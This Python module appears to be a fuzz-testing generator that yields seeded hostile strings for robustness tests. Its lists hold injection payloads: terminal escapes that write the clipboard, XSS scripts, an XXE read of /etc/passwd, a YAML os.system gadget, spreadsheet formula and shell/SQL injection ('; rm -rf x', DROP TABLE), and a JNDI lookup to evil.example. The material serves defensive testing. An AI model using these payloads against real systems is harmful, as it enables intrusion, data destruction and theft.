"""Strings that a careless program would obey, break on or run: any number of them, the same for the same seed."""

import json
import random
import re
from collections.abc import Iterator
from pathlib import Path

SHARED = Path(__file__).parents[3] / "shared" / "attacks"
"""Hostile files that do not belong to the project; they may be absent."""

RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""What never reaches a terminal or a page."""

MARK = "7777"
"""A number in the escape sequences here, by which they are told from those that a terminal's driver writes."""

CANARIES = ("T1dORUQ=", f"title {MARK}", f"dcs {MARK}", f"evil.example/{MARK}")
"""What a clipboard, a title, a device and a link would be given if a sequence were alive."""

FAMILIES: dict[str, tuple[str, ...]] = {
    "escapes": (
        f"\x1b[{MARK}m",
        f"\x1b[{MARK};2J",
        "\x1b[2J\x1b[H",
        "\x1b[6n\x1b[c",
        "\x1b[?1049l",
        "\x1b[?1003h\x1b[?2004l",
        "\x1b]52;c;T1dORUQ=\x1b\\",
        "\x1b]52;c;T1dORUQ=",
        "\x9d52;c;T1dORUQ=\x9c",
        f"\x1bPdcs {MARK}\x1b\\",
        "\x1bP+q544e\x1b\\",
        "\x1b]11;?\x1b\\",
        f"\x1b]0;title {MARK}\x07",
        f"\x1b]2;title {MARK}\x1b\\",
        f"\x1b]52;c;{MARK}\x07",
        f"\x9d52;c;{MARK}\x9c",
        f"\x9b{MARK}m",
        f"\x1bP{MARK}q\x1b\\",
        f"\x90{MARK}q\x9c",
        f"\x1b]8;;http://evil.example/{MARK}\x1b\\link\x1b]8;;\x1b\\",
        f"\x1b_G{MARK}\x1b\\",
        "\x1bc",
        "\x1b(0",
        "\x9c\x98\x9e\x9f",
        f"\x1b[?{MARK}h",
    ),
    "controls": (
        *(f"a{chr(code)}b" for code in (*range(0x20), 0x7F)),
        *(f"c{chr(code)}" for code in range(0x80, 0xA0)),
        "\r\n",
        "\r",
        "\x00",
        "\u2028",
        "\u2029",
        "\ud800",
        "\udfff",
        "\ufffe",
        "\U0010ffff",
    ),
    "bidi": (
        "\u202egnp.exe\u202c",
        "\u2066iso\u2069",
        "\u2067r\u2068f",
        "שלום עולם",
        "مرحبا",
        "\u200f\u200e\u061c",
    ),
    "marks": (
        "z" + "\u0300\u0301\u0489\u035c" * 12,
        "\u200b\u200c\u200d\u2060\ufeff",
        "e\u0301 é",
        "ﬁ ＡＢＣ",
        "👩‍👩‍👧 🇩🇪🇫 👍🏽",
        "日本語の長い文",
        "한국어",
        "\u1160\u115f",
        "\U000e0041\U000e007f",
        "ｶﾞ",
        "x" * 350,
        "wide字" * 60,
    ),
    "screen markup": (
        "[@click=app.quit]x[/]",
        "[@click=app.bell]y[/@click]",
        "[/b] said",
        "[bold red]",
        "[link=http://evil.example]z[/link]",
        "[[nested]]",
        "\\[x]",
        "[TODO]",
        "[/]",
        "[$primary]$x",
        "[on red]",
        ":smile:",
        "[@click='app.run_action(\"quit\")']w[/]",
        "[" * 60,
        "]" * 60,
    ),
    "formulas": (
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "=cmd|'/c calc'!A1",
        '=HYPERLINK("http://evil.example","x")',
        "'=1",
    ),
    "markdown": (
        "[a](javascript:alert(1))",
        "![i](http://evil.example/x.png)",
        "<http://evil.example>",
        "http://evil.example/auto",
        "# heading",
        "- item",
        "1. one",
        "1) one",
        "+ plus",
        "* star *b* **c**",
        "> quote",
        "```\nfence",
        "~~~",
        "`code`",
        "a|b|c\n-|-|-",
        "***",
        "---",
        "===",
        "    indented",
        "\t tab",
        "[r]: http://evil.example",
        "[r]",
        "\\",
        "_u_ ~~s~~",
        "&lt;b&gt; &#60;",
        "a  \nb",
        "<!--",
        "-->",
        "$$x$$",
    ),
    "html": (
        "<script>document.title='OWNED'</script>",
        "<img src=x onerror=\"document.title='OWNED'\">",
        '" onmouseover="document.title=\'OWNED\'" x="',
        "' onfocus='x' autofocus='",
        "</style></title></textarea><svg onload=document.title='OWNED'>",
        "</script><script>document.title='OWNED'</script>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe src=//evil.example></iframe>",
        "<base href=//evil.example>",
        "<math><mi xlink:href='data:x'>",
        "<b>bold",
        "&amp;&quot;&#x27;",
        "{{ 7*7 }} {% raw %} ${7*7} #{x}",
        "javascript:alert(1)",
        "url(http://evil.example)",
        "}</style>",
        "<plaintext>",
        "<x onclick=alert(1)>",
    ),
    "xml": (
        "]]>",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "&x;",
        "<?php ?>",
        "_x0041_",
        "<w:t>",
    ),
    "csv": ('"', '""', '","', "a,b\nc,d", "a;b", "\n", '"\n"', "'"),
    "paths": (
        "../../etc/passwd",
        "..\\..\\x",
        "/dev/null/x",
        "CON",
        "nul",
        "COM1.txt",
        "aux.",
        "trailing. ",
        " .hidden",
        "a/b",
        "a\\b",
        "C:x",
        "n" * 300,
        "-rf",
        "--help",
        "~",
        "*?<>|",
        "%2e%2e%2f",
        ".",
        "..",
    ),
    "queries": (
        '"',
        "NEAR(a b, 1)",
        "trust AND",
        "col:val",
        "a OR OR b",
        "NOT",
        "^a",
        "(",
        ")",
        "((((((((((",
        "a* b*",
        "{text}:a",
        "under:",
        "code:x AND NOT",
        "visits>=",
        "-a",
        "50%",
        "C++",
        "don't",
        "(a+)+$",
        "(.*a){25}",
        "(?P<x",
        "a{99999999}",
        "NOT " * 80,
        "a AND " * 80,
    ),
    "yaml and json": (
        "!!python/object/new:os.system [x]",
        "&a [*a, *a]",
        "? key : - value",
        "---\n...",
        '{"__proto__": 1}',
        "\\u0000\\ud800",
        "1e999",
        "NaN",
        "yes",
        "null",
    ),
    "shell and sql": (
        "; rm -rf x",
        "$(touch OWNED)",
        "`touch OWNED`",
        "| cat",
        "&& x",
        "'; DROP TABLE code;--",
        "' OR 1=1 --",
        "%s%n%x",
        "{0.__class__}",
        "\\x00",
        "${jndi:ldap://evil.example}",
    ),
}
"""What each family of attacks is made of."""

_PLAIN = ("I said", "the price", "we", "Ana", "never", "3", "")


def hostile_strings(count: int, seed: int = 0) -> Iterator[str]:
    """So many strings. Every fragment stands alone first; then come mixtures of one to five, and changed ones."""
    every = [fragment for fragments in FAMILIES.values() for fragment in fragments]
    every += shared_strings()
    yield from every[:count]
    chance = random.Random(seed)
    for _ in range(count - len(every)):
        parts: list[str] = []
        for _ in range(chance.randint(1, 5)):
            parts += (chance.choice(_PLAIN), chance.choice(every))
        mixed = chance.choice(("", " ", "", "\n")).join(parts)
        yield _changed(mixed, chance) if chance.random() < 0.3 else mixed


def _changed(text: str, chance: random.Random) -> str:
    """The text with one to four characters put in, taken out or doubled anywhere, also within a sequence."""
    letters = list(text)
    for _ in range(chance.randint(1, 4)):
        place = chance.randrange(len(letters) + 1)
        match chance.randrange(3):
            case 0:
                letters.insert(place, chr(chance.choice(_ODD)))
            case 1:
                letters[place : place + 1] = []
            case _:
                letters[place:place] = letters[place : place + 3]
    return "".join(letters)


_ODD = (*range(0xA1), 0x202E, 0x2066, 0x200D, 0xFE0F, 0x0301, 0xD800, 0xFEFF, 0x1F469, 0x10FFFF)


def shared_strings() -> list[str]:
    """The names, queries and lines of the attacks that lie beside the project; none where they are absent."""
    if not SHARED.is_dir():
        return []
    found: list[str] = []
    for name in ("nasty_names.json", "queries.json"):
        for value in json.loads((SHARED / name).read_text(encoding="utf-8")).values():
            found += [value] if isinstance(value, str) else value
    for path in sorted(SHARED.glob("*.txt")):
        text = path.read_bytes()[:20_000].decode("utf-8", "replace")
        found += [line[:400] for line in text.split("\n") if line]
    return list(dict.fromkeys(found))
